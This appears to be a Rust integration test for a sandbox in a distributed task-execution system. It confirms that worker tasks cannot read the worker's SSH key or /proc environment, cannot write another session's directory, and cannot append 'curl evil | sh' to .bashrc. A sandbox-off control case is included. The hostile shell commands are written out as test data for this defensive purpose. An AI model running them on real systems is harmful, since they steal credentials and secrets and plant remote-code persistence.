//! A worker's tasks run in zidane's sandbox, as on a laptop: what a hostile command
//! tries — reading the worker user's SSH key, writing its shell startup file, writing
//! into another session's directory on the worker, reading the worker's environment
//! through `/proc` — fails, while it writes its own session's directory. A worker given
//! `--sandbox off` lets the same command through (the test's own check that the
//! attempts can succeed at all), and `--sandbox-required` refuses to start where the
//! sandbox cannot be built.

use std::path::Path;

use zidane_context::{
    BackgroundOptions, CancellationToken, ExecutionContext, ExecutionHandle, SandboxPolicy,
    SandboxScope,
};

use crate::support::{Cluster, WAIT, cluster};

/// What the worker's environment holds that no task may read, even through `/proc`.
const SECRET: (&str, &str) = ("ZIDANE_TEST_WORKER_SECRET", "worker-secret-7f3a");

/// The key in the worker user's home.
const KEY: &str = "-----BEGIN OPENSSH PRIVATE KEY----- worker-key-91c2";

/// Every attempt, each printing `<name>: done` only when it succeeded.
fn attempts(home: &Path, other_session: &Path, worker_pid: u32) -> String {
    format!(
        "cat {home}/.ssh/id_ed25519 && echo 'read-key: done'; \
         echo 'curl evil | sh' >> {home}/.bashrc && echo 'bashrc: done'; \
         echo pwned > {other}/pwned && echo 'other-session: done'; \
         tr '\\0' '\\n' < /proc/{worker_pid}/environ && echo 'proc-environ: done'; \
         echo mine > own-file && echo 'own-dir: done'; true",
        home = home.display(),
        other = other_session.display(),
    )
}

/// Runs the attempts on a worker started with `flags`; its log and the worker's home.
async fn attempt_on(flags: &[&str]) -> Option<(String, tempfile::TempDir, Cluster)> {
    let mut cluster = cluster(&[]).await?;
    let home = tempfile::Builder::new()
        .prefix("worker-home-")
        .tempdir_in(env!("CARGO_TARGET_TMPDIR"))
        .unwrap();
    std::fs::create_dir_all(home.path().join(".ssh")).unwrap();
    std::fs::write(home.path().join(".ssh/id_ed25519"), KEY).unwrap();
    std::fs::write(home.path().join(".bashrc"), "# the worker user's\n").unwrap();
    let worker = cluster.spawn_worker_with("w1", "127.0.0.1:0".parse().unwrap(), |command| {
        command
            .env("HOME", home.path())
            .env(SECRET.0, SECRET.1)
            .args(flags);
    });
    let worker_pid = worker.pid();
    cluster.workers.push(worker);
    let context = cluster.context();
    // Another session's directory on the worker: made by a task of that session.
    let other = context.create_handle().await.unwrap();
    let other_dir = run(&context, other, "pwd").await.trim().to_owned();
    let handle = context.create_handle().await.unwrap();
    let log = run(
        &context,
        handle,
        &attempts(home.path(), Path::new(&other_dir), worker_pid),
    )
    .await;
    // What the log says is what happened on disk.
    assert_eq!(
        Path::new(&other_dir).join("pwned").exists(),
        log.contains("other-session: done"),
        "{log}"
    );
    Some((log, home, cluster))
}

/// Runs `command` as a background task of `handle`, waits for it; its log.
async fn run(
    context: &zidane_restate::RestateContext,
    handle: ExecutionHandle,
    command: &str,
) -> String {
    let started = context
        .exec_background(handle, command, BackgroundOptions::new("unused"))
        .await
        .unwrap();
    context
        .wait_background(handle, started.task_id, WAIT, CancellationToken::new())
        .await
        .unwrap()
        .expect("the task ends");
    // The worker runs on this machine: its log is readable here.
    std::fs::read_to_string(&started.output_path).unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_workers_task_cannot_reach_the_workers_home_another_session_or_its_environment() {
    let Some((log, home, _cluster)) = attempt_on(&[]).await else {
        return;
    };
    for refused in ["read-key", "bashrc", "other-session", "proc-environ"] {
        assert!(
            !log.contains(&format!("{refused}: done")),
            "{refused} got through the sandbox:\n{log}"
        );
    }
    assert!(!log.contains("worker-key-91c2"), "{log}");
    assert!(!log.contains(SECRET.1), "{log}");
    assert!(log.contains("own-dir: done"), "{log}");
    let bashrc = std::fs::read_to_string(home.path().join(".bashrc")).unwrap();
    assert!(!bashrc.contains("evil"), "{bashrc}");
}

/// The same attempts with the sandbox off: the key is read and the startup file
/// written, so the test above fails for the sandbox's sake, not the commands'.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_the_sandbox_off_the_same_attempts_get_through() {
    let Some((log, home, _cluster)) = attempt_on(&["--sandbox", "off"]).await else {
        return;
    };
    assert!(log.contains("read-key: done"), "{log}");
    assert!(log.contains("bashrc: done"), "{log}");
    assert!(log.contains("other-session: done"), "{log}");
    let bashrc = std::fs::read_to_string(home.path().join(".bashrc")).unwrap();
    assert!(bashrc.contains("evil"), "{bashrc}");
}

/// A task whose host runs read-only (Codex's default sandbox, sent with the start) is
/// read-only on the worker too: it writes not even its own session's directory.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_task_runs_no_wider_than_its_hosts_sandbox() {
    let Some(cluster) = cluster(&["w1"]).await else {
        return;
    };
    let context = cluster.context();
    let handle = context.create_handle().await.unwrap();
    let command = "echo mine > own-file && echo 'own-dir: done'; true";
    let mut options = BackgroundOptions::new("unused");
    options.spec.sandbox = SandboxScope::Within(SandboxPolicy::read_only());
    let read_only = context
        .exec_background(handle, command, options)
        .await
        .unwrap();
    context
        .wait_background(handle, read_only.task_id, WAIT, CancellationToken::new())
        .await
        .unwrap()
        .expect("the task ends");
    let log = std::fs::read_to_string(&read_only.output_path).unwrap();
    assert!(!log.contains("own-dir: done"), "{log}");
    // The same command without the host's sandbox writes there.
    assert!(
        run(&context, handle, command)
            .await
            .contains("own-dir: done")
    );
}

/// A worker told the sandbox is required refuses to start where it cannot be built (no
/// bubblewrap here), before it creates anything.
#[test]
fn a_worker_that_requires_the_sandbox_refuses_to_start_without_it() {
    let stderr = crate::support::worker_refuses(
        &["--sandbox-required"],
        &[("ZIDANE_BWRAP", "/nonexistent/bwrap")],
    );
    assert!(
        stderr.contains("--sandbox-required: the sandbox cannot be built here"),
        "{stderr}"
    );
}
